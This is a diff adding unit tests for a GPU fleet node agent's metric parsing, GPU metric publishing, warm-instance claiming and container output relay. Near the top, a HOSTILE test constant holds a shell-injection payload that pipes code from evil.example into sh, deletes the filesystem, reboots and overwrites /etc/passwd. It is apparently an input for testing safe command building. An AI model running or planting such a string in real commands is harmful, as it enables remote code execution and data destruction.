@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import io
 import json
 import threading
 import time
@@ -11,8 +12,15 @@ from typing import Any
 
 import pytest
 
-from gpufleet.agent.docker import docker_argv, looks_like_gpu_oom
-from gpufleet.agent.node import NodeAgent, RunManifest, RunOutcome
+from gpufleet.agent.docker import docker_argv, looks_like_gpu_oom, relay
+from gpufleet.agent.node import (
+    MAX_JOB_METRICS,
+    JobMetrics,
+    NodeAgent,
+    RunManifest,
+    RunOutcome,
+    parse_job_metric_line,
+)
 from gpufleet.topology import DETAIL_NODE_FINISHED, DETAIL_NODE_HEARTBEAT, DETAIL_NODE_STARTED
 
 HOSTILE = "$(curl evil.example | sh); rm -rf / `reboot` && echo pwned > /etc/passwd"
@@ -175,3 +183,126 @@ def test_a_resumed_run_is_told_where_its_checkpoint_is_by_environment_only() -> 
 )
 def test_gpu_out_of_memory_is_recognised_in_the_log_tail(log_tail: str, oom: bool) -> None:
     assert looks_like_gpu_oom(log_tail) is oom
+
+
+@pytest.mark.parametrize(
+    ("line", "values"),
+    [
+        (
+            "GPUFLEET_METRIC samples_per_second=1234 loss=0.31",
+            {"samples_per_second": 1234.0, "loss": 0.31},
+        ),
+        ("GPUFLEET_METRIC tokens/s=5 ok=1", {"ok": 1.0}),  # a bad name is skipped, not the line
+        ("GPUFLEET_METRIC loss=nan speed=inf eta=soon", {}),
+        ("GPUFLEET_METRIC GpuUtilization=3", {}),  # the agent's own metrics cannot be spoofed
+        ("epoch 3: loss=0.31", {}),
+        ("GPUFLEET_METRIC x=1" + " " * 2000, {}),  # too long: ignored
+    ],
+)
+def test_job_metric_lines_are_parsed_strictly(line: str, values: dict[str, float]) -> None:
+    assert parse_job_metric_line(line) == values
+
+
+def test_job_metrics_are_averaged_between_publications_and_capped_in_number() -> None:
+    metrics = JobMetrics()
+    metrics.feed("GPUFLEET_METRIC samples_per_second=100\n")
+    metrics.feed("GPUFLEET_METRIC samples_per_second=300\n")
+    assert metrics.take_means() == {"samples_per_second": 200.0}
+    assert metrics.take_means() == {}
+    for n in range(MAX_JOB_METRICS + 5):  # one name is already taken: samples_per_second
+        metrics.feed(f"GPUFLEET_METRIC m{n}=1 samples_per_second=5")
+    means = metrics.take_means()
+    assert len(means) == MAX_JOB_METRICS and means["samples_per_second"] == 5.0
+
+
+@dataclass
+class FakeGpus:
+    def utilization_percent(self) -> float | None:
+        return 97.0
+
+    def temperature_celsius(self) -> float | None:
+        return None  # cannot tell: not published
+
+    def memory_used_mib(self) -> float | None:
+        return 20480.0
+
+
+@dataclass
+class FakeSink:
+    points: list[tuple[str, str, float, str]] = field(default_factory=list)
+    got_job_metric: threading.Event = field(default_factory=threading.Event)
+
+    def put(self, job_id: str, name: str, value: float, unit: str) -> None:
+        self.points.append((job_id, name, value, unit))
+        if name == "samples_per_second":
+            self.got_job_metric.set()
+
+
+@dataclass
+class PrintingRuntime:
+    """A container that prints its throughput, then runs until the agent published it."""
+
+    job_metrics: JobMetrics
+    sink: FakeSink
+
+    def run(self, manifest: RunManifest, stop: threading.Event) -> RunOutcome:
+        self.job_metrics.feed("GPUFLEET_METRIC samples_per_second=400\n")
+        self.job_metrics.feed("training step 10\n")
+        published = self.sink.got_job_metric.wait(5.0)
+        return RunOutcome(exit_code=0 if published else 1)
+
+
+def test_the_agent_publishes_gpu_memory_and_the_jobs_own_metrics() -> None:
+    job = "j-0123456789abcdef0123"
+    document = json.dumps({"job_id": job, "image": "i", "command": ["a"]}).encode()
+    sink, job_metrics = FakeSink(), JobMetrics()
+    agent = NodeAgent(
+        FakeIdentity(),
+        FakeManifests({f"runs/{job}/run.json": document}),
+        FakeReporter(),
+        PrintingRuntime(job_metrics, sink),
+        gpu_probe=FakeGpus(),
+        metrics=sink,
+        metrics_seconds=0.01,
+        job_metrics=job_metrics,
+    )
+    assert agent.run().exit_code == 0
+    published = {(name, value, unit) for _, name, value, unit in sink.points}
+    assert ("GpuUtilization", 97.0, "Percent") in published
+    assert ("GpuMemoryUsed", 20480.0, "Megabytes") in published
+    assert ("samples_per_second", 400.0, "None") in published
+    assert "GpuTemperature" not in {name for name, _, _ in published}
+    assert {job_id for job_id, _, _, _ in sink.points} == {job}
+
+
+@dataclass
+class WarmIdentity(FakeIdentity):
+    """A warm-pool instance: no job tag until a launch claims it (after a few looks)."""
+
+    looks: int = 0
+
+    def tags(self) -> Mapping[str, str]:
+        self.looks += 1
+        return super().tags() if self.looks > 3 else {"gpufleet:managed": "true"}
+
+
+def test_a_warm_instance_waits_for_the_job_that_claims_it() -> None:
+    job = "j-0123456789abcdef0123"
+    document = json.dumps({"job_id": job, "image": "i", "command": ["a"]}).encode()
+    identity, runtime = WarmIdentity(), FakeRuntime(RunOutcome(exit_code=0))
+    agent = NodeAgent(
+        identity,
+        FakeManifests({f"runs/{job}/run.json": document}),
+        FakeReporter(),
+        runtime,
+        claim_poll_seconds=0.001,
+    )
+    assert agent.run().exit_code == 0
+    assert identity.looks == 4 and runtime.seen[0].job_id == job
+
+
+def test_the_containers_stdout_is_relayed_line_by_line(capsys: pytest.CaptureFixture[str]) -> None:
+    lines: list[str] = []
+    relay(io.StringIO("step 1\nGPUFLEET_METRIC loss=0.5\n"), lines.append)
+    assert lines == ["step 1\n", "GPUFLEET_METRIC loss=0.5\n"]
+    assert capsys.readouterr().out == "step 1\nGPUFLEET_METRIC loss=0.5\n"
